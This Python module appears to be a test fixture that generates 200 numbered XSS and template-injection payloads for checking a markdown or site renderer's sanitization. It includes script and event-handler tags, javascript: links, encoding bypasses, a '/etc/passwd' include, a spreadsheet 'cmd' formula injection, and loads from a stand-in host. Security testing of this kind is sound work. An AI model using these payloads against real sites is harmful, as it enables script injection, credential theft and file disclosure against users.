"""Two hundred texts that want to be more than a text. `payload(7)` is the eighth.

Each calls `__x(7)` if it runs, and marks what it puts into the page with the attribute `xss`, so
that an element is found even if a policy stops its script. PRODUCT on a page says that a template
was calculated.
"""

from itertools import product

NUMBER = "NNN"
"""Stands for the payload's own number in the templates below."""
LINE_END = "↵"
HOST = "xss.example"
FACTORS = "1337*7331"
PRODUCT = "9801547"

TAGS = """
<script xss>__x(NNN)</script>
<ScRiPt xss>__x(NNN)</sCrIpT >
<script xss src=//xss.example/NNN></script>
<script xss type=module>__x(NNN)</script>
<script xss src=data:,__x(NNN)></script>
<script/xss>__x(NNN)</script>
<scr<script>ipt xss>__x(NNN)</script>
<<script xss>__x(NNN)//<</script>
<img xss src=x onerror=__x(NNN)>
<img xss src onerror=alert(NNN)>
<img/xss/src='x'/onerror=__x(NNN)>
<IMG XSS SRC=x OnErRoR=__x(NNN)>
<img xss src=//xss.example/NNN.png>
<svg xss onload=__x(NNN)>
<svg/xss/onload=__x(NNN)>
<svg xss><script>__x(NNN)</script></svg>
<svg xss><animate onbegin=__x(NNN) attributeName=x dur=1s>
<svg xss><a xlink:href=javascript:__x(NNN)><text y=9>x</text></a></svg>
<svg xss><use href="data:image/svg+xml,<svg id=x><script>__x(NNN)</script></svg>#x"/></svg>
<svg xss><foreignObject><body onload=__x(NNN)></foreignObject></svg>
<svg xss><style><img src=x onerror=__x(NNN)></style></svg>
<math xss><mtext><table><mglyph><style><img src=x onerror=__x(NNN)>
<math xss><a xlink:href=javascript:__x(NNN)>x</a></math>
<body xss onload=__x(NNN)>
<body xss onpageshow=__x(NNN)>
<iframe xss src=javascript:__x(NNN)></iframe>
<iframe xss srcdoc="<script>parent.__x(NNN)</script>"></iframe>
<iframe xss src=data:text/html,<script>parent.__x(NNN)</script>></iframe>
<object xss data=javascript:__x(NNN)></object>
<object xss data=data:text/html,<script>__x(NNN)</script>></object>
<embed xss src=javascript:__x(NNN)>
<video xss><source onerror=__x(NNN)></video>
<audio xss src=x onerror=__x(NNN)>
<video xss poster=//xss.example/NNN src=x onloadstart=__x(NNN)>
<input xss autofocus onfocus=__x(NNN)>
<select xss autofocus onfocus=__x(NNN)></select>
<textarea xss autofocus onfocus=__x(NNN)></textarea>
<details xss open ontoggle=__x(NNN)>
<marquee xss onstart=__x(NNN)>x</marquee>
<a xss href=javascript:__x(NNN)>x</a>
<a xss href="java&#10;script:__x(NNN)">x</a>
<a xss href=JaVaScRiPt&colon;__x(NNN)>x</a>
<form xss action=javascript:__x(NNN)><button>x</button></form>
<button xss form=x formaction=javascript:__x(NNN)>x</button>
<base xss href=//xss.example/>
<link xss rel=stylesheet href=//xss.example/NNN.css>
<link xss rel=import href=data:text/html,<script>__x(NNN)</script>>
<meta xss http-equiv=refresh content="0;url=javascript:__x(NNN)">
<meta xss http-equiv=refresh content="0;url=//xss.example/">
<style xss>*{background:url(//xss.example/NNN)}</style>
<style xss>@import "//xss.example/NNN.css";</style>
<div xss style="background:url(//xss.example/NNN)">x</div>
<div xss style=animation-name:x onanimationstart=__x(NNN)>x</div>
<div xss style="width:expression(__x(NNN))">x</div>
<x xss onclick=__x(NNN) tabindex=1 onfocus=__x(NNN) autofocus>x</x>
<dialog xss open oncancel=__x(NNN)>x</dialog>
<table xss background=//xss.example/NNN><td>x
<isindex xss type=image src=1 onerror=__x(NNN)>
<noscript><p title="</noscript><img xss src=x onerror=__x(NNN)>">
<template xss><img src=x onerror=__x(NNN)></template>
<custom-x xss onpointerenter=__x(NNN)>x</custom-x>
<b xss>NNN</b>
<h1 xss>NNN
<p xss id=x class=md-overlay>NNN
<plaintext xss>NNN
<!--><img xss src=x onerror=__x(NNN)>-->
<![CDATA[<img xss src=x onerror=__x(NNN)>]]>
<?xml version="1.0"?><img xss src=x onerror=__x(NNN)>
<%<!--'%><script xss>__x(NNN)</script -->
<a href="x" title="<!-- '><img xss src=x onerror=__x(NNN)>">x</a>
<form id=x><input name=attributes xss><input name=innerHTML></form>
<img xss name=currentScript><a id=__config xss></a>
"""

WORDS = """
javascript:__x(NNN)
JaVaScRiPt:alert(NNN)
javascript://%0a__x(NNN)
data:text/html,<script xss>__x(NNN)</script>
vbscript:__x(NNN)
{{1337*7331}} NNN
{{{{1337*7331}}}} NNN
${1337*7331} NNN
#{1337*7331} NNN
<%= 1337*7331 %> NNN
{% raw %}<img xss src=x onerror=__x(NNN)>{% endraw %}
{% include "page.html" %} NNN
{{ self.__init__.__globals__ }} NNN
{{constructor.constructor('__x(NNN)')()}}
{{ "<img xss src=x onerror=__x(NNN)>" | safe }}
';__x(NNN);//
";__x(NNN);//
\\";__x(NNN);//
\\';__x(NNN);//
`;__x(NNN);//
${__x(NNN)}
</script><script xss>__x(NNN)</script>
<!--<script>__x(NNN)
"}]}</script><img xss src=x onerror=__x(NNN)>
{"__proto__":{"xss":"<img xss src=x onerror=__x(NNN)>"}}
\\u003cimg xss src=x onerror=__x(NNN)\\u003e
\\x3cscript xss\\x3e__x(NNN)\\x3c/script\\x3e
&lt;script xss&gt;__x(NNN)&lt;/script&gt;
&amp;lt;img xss src=x onerror=__x(NNN)&amp;gt;
&#60;img xss src=x onerror=__x(NNN)&#62;
%3Cscript xss%3E__x(NNN)%3C/script%3E
%253Cimg xss src=x onerror=__x(NNN)%253E
+ADw-script xss+AD4-__x(NNN)+ADw-/script+AD4-
＜script xss＞__x(NNN)＜/script＞
﹤img xss src=x onerror=__x(NNN)﹥
ʺ onfocus=__x(NNN) autofocus xss=ʺ
\u2028__x(NNN)\u2029
\u202e>)NNN(x__=rorreno x=crs ssx gmi<
\ufeff<img xss src=x onerror=__x(NNN)>
<img\u00a0xss src=x onerror=__x(NNN)>
ſcript:__x(NNN) <ſvg xss onload=__x(NNN)>
\U0001f600<img xss src=x onerror=__x(NNN)>
[x](javascript:__x(NNN))
[x](JAVASCRIPT:__x(NNN) "t")
[x](<javascript:__x(NNN)>)
[x](java&#115;cript:__x(NNN))
[x](&#x6A;avascript&colon;__x(NNN))
[x](\u0001javascript:__x(NNN))
[x](data:text/html;base64,PHNjcmlwdD5fX3goTk5OKTwvc2NyaXB0Pg==)
[x]( javascript:__x(NNN))
[x][y]↵↵[y]: javascript:__x(NNN)
[x](vbscript:__x(NNN))
[x](//xss.example/NNN)
[x](https://xss.example/NNN "\\"onmouseover=__x(NNN) xss")
[x](x"onmouseover="__x(NNN)"xss=")
![x](x"onerror="__x(NNN)"xss=")
![x](javascript:__x(NNN))
![x](https://xss.example/NNN.png)
![x](//xss.example/NNN.png)
![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__x(NNN)'/>)
![x][y]↵↵[y]: https://xss.example/NNN.png
<javascript:__x(NNN)>
<https://xss.example/NNN"onclick=__x(NNN) xss>
**<img xss src=x onerror=__x(NNN)>**
# <img xss src=x onerror=__x(NNN)>
> <svg xss onload=__x(NNN)>
- <svg xss onload=__x(NNN)>
| <svg xss onload=__x(NNN)> | b |↵|---|---|↵| <b xss>NNN</b> | c |
```html xss onclick=__x(NNN)↵<img xss src=x onerror=__x(NNN)>↵```
~~~ {: onclick=__x(NNN) xss }↵x↵~~~
x {: onclick=__x(NNN) xss=NNN }
# x { onclick=__x(NNN) xss=NNN }
{: style="background:url(//xss.example/NNN)" xss }
!!! note "<img xss src=x onerror=__x(NNN)>"↵    x
<div markdown="1" xss onclick=__x(NNN)>**x**</div>
*[x]: " onmouseover=__x(NNN) xss="
[^1]: <img xss src=x onerror=__x(NNN)>
--8<-- "/etc/passwd" NNN
---↵template: x↵---↵<b xss>NNN</b>
<!--houqin:content--> NNN
<!--houqin:head--><script xss>__x(NNN)</script>
:material-alert:{ onclick=__x(NNN) xss }
=1+1+cmd|' /C calc'!A0 <b xss>NNN</b>
"""

OUT_OF = (
    *('"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>"),
    *("</option></select>", "</noscript>", "</a>", "`"),
)
INTO = (
    " onfocus=__x(NNN) autofocus xss=NNN x=",
    "<img xss src=x onerror=__x(NNN)>",
    "<svg/onload=alert(NNN) xss>",
    "<script xss>__x(NNN)</script>",
)


def all_templates() -> list[str]:
    """Different ones, in this order; more than are thrown."""
    lines = [*TAGS.strip("\n").split("\n"), *WORDS.strip("\n").split("\n")]
    spelled = [line.replace(LINE_END, "\n") for line in lines]
    return list(dict.fromkeys([*spelled, *("".join(pair) for pair in product(OUT_OF, INTO))]))


TEMPLATES = all_templates()[:200]


def payload(number: int) -> str:
    return TEMPLATES[number].replace(NUMBER, str(number))
